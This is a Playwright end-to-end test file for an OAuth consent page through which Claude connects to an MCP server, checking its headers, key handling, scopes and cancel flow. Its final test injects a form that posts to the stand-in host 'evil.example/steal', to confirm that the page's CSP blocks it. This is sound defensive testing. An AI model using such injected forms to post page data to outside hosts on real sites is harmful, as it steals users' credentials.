/** The consent page in Debian's Chromium, with JavaScript on (fetch) and off (form POST + 303). */
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { KEY_A } from '@/kit/app';
import {
  authorizeParams,
  authorizeUrl,
  CLAUDE_CALLBACK,
  exchangeCode,
  pkcePair,
  register,
  type Registration,
} from '../support/oauth';

const base = () => process.env.E2E_BASE_URL!;
let claude: Registration;

test.beforeAll(async () => {
  claude = await register(base());
});

/** claude.ai is not reachable from here: answer its callback locally and keep the URL. */
async function answerCallbackLocally(context: BrowserContext) {
  await context.route('https://claude.ai/**', (route) =>
    route.fulfill({ status: 200, contentType: 'text/html', body: '<p>callback reached</p>' }),
  );
}

async function openConsent(page: Page, state: string) {
  const { challenge } = pkcePair();
  const response = await page.goto(
    authorizeUrl(base(), authorizeParams(base(), claude.client_id, CLAUDE_CALLBACK, challenge, { state })),
  );
  expect(response?.status()).toBe(200);
  await expect(page.getByRole('heading', { name: 'Authorize access' })).toBeVisible();
  return response!;
}

async function expectCallback(page: Page, state: string): Promise<URL> {
  await page.waitForURL((url) => url.href.startsWith(CLAUDE_CALLBACK));
  const url = new URL(page.url());
  expect(url.searchParams.get('state')).toBe(state);
  expect(url.searchParams.get('iss')).toBe(base());
  return url;
}

for (const javaScriptEnabled of [true, false]) {
  const mode = javaScriptEnabled ? 'with JavaScript (fetch)' : 'without JavaScript (form POST, 303)';

  test.describe(`consent ${mode}`, () => {
    test.use({ javaScriptEnabled });

    // @req CONN-CONSENT-SUBMIT
    // @req CONN-ISS
    test('authorizes with the right key and lands on the callback with code, state and iss', async ({
      page,
      context,
    }) => {
      await answerCallbackLocally(context);
      const response = await openConsent(page, 'ok-state');
      const headers = response.headers();
      expect(headers['x-frame-options']).toBe('DENY');
      expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
      expect(headers['referrer-policy']).toBe('no-referrer');
      expect(headers['cache-control']).toContain('no-store');
      await expect(page.getByTestId('client-name')).toHaveText('Claude');
      await expect(page.getByTestId('redirect-host')).toHaveText('claude.ai');
      // Chromium applies form-action to the redirect after the POST: the callback origin is allowed.
      await expect(page.locator('head meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
        'content',
        "form-action 'self' https://claude.ai",
      );
      const key = page.getByLabel('API key');
      await expect(key).toHaveAttribute('type', 'password');
      await expect(key).toHaveAttribute('autocomplete', 'off');
      await key.fill(KEY_A);
      const submitted = page.waitForRequest(
        (r) => r.method() === 'POST' && r.url().endsWith('/oauth/authorize/submit'),
      );
      await page.getByRole('button', { name: 'Authorize' }).click();
      // JavaScript on: fetch() is the primary path; off: the plain form POST.
      expect(new URLSearchParams((await submitted).postData() ?? '').get('via')).toBe(
        javaScriptEnabled ? 'fetch' : null,
      );
      const callback = await expectCallback(page, 'ok-state');
      expect(callback.searchParams.get('code')).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
      expect(callback.href).not.toContain(KEY_A);
    });

    // @req CONN-CONSENT-WRONG-KEY
    test('shows a clear message for a wrong key, then accepts the right key', async ({ page, context }) => {
      await answerCallbackLocally(context);
      await openConsent(page, 'retry-state');
      await page.getByLabel('API key').fill('wrong-key-0123456789abcdefghij');
      await page.getByRole('button', { name: 'Authorize' }).click();
      await expect(page.locator('main [role=alert]')).toHaveText(/That API key is not valid/);
      expect(page.url().startsWith(CLAUDE_CALLBACK)).toBe(false);
      await page.getByLabel('API key').fill(KEY_A);
      await page.getByRole('button', { name: 'Authorize' }).click();
      const callback = await expectCallback(page, 'retry-state');
      expect(callback.searchParams.get('code')).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
    });

    // @req READ-ONLY-CONSENT
    test('offers Read-only and Full access with Full preselected; choosing Read-only grants mcp:read', async ({
      page,
      context,
    }) => {
      await answerCallbackLocally(context);
      const { verifier, challenge } = pkcePair();
      await page.goto(
        authorizeUrl(
          base(),
          authorizeParams(base(), claude.client_id, CLAUDE_CALLBACK, challenge, { state: 'ro-state' }),
        ),
      );
      await expect(page.getByText('It cannot change anything.')).toBeVisible();
      await expect(page.getByRole('radio', { name: /Full access/ })).toBeChecked();
      await page.getByRole('radio', { name: /Read-only/ }).check();
      await page.getByLabel('API key').fill(KEY_A);
      await page.getByRole('button', { name: 'Authorize' }).click();
      const callback = await expectCallback(page, 'ro-state');
      const res = await exchangeCode(base(), {
        code: callback.searchParams.get('code')!,
        code_verifier: verifier,
        redirect_uri: CLAUDE_CALLBACK,
        client_id: claude.client_id,
        client_secret: claude.client_secret!,
        resource: `${base()}/mcp`,
      });
      expect(res.status).toBe(200);
      expect(((await res.json()) as { scope: string }).scope).toBe('mcp:read offline_access');
    });

    // @req CONN-CONSENT-CANCEL
    test('Cancel returns access_denied with state and iss, and no code', async ({ page, context }) => {
      await answerCallbackLocally(context);
      await openConsent(page, 'cancel-state');
      await page.getByRole('button', { name: 'Cancel' }).click();
      const callback = await expectCallback(page, 'cancel-state');
      expect(callback.searchParams.get('error')).toBe('access_denied');
      expect(callback.searchParams.has('code')).toBe(false);
    });
  });
}

// @req CONN-CONSENT-HEADERS
test('the consent page refuses to submit a form to any origin but its own and the callback', async ({
  page,
  context,
}) => {
  let leaked = false;
  await context.route('https://evil.example/**', (route) => {
    leaked = true;
    return route.fulfill({ status: 200, body: 'leaked' });
  });
  await openConsent(page, 'csp-state');
  const violation = page.evaluate(
    () =>
      new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }),
      ),
  );
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://evil.example/steal';
    document.body.append(form);
    form.submit();
  });
  expect(await violation).toBe('form-action');
  expect(leaked).toBe(false);
});
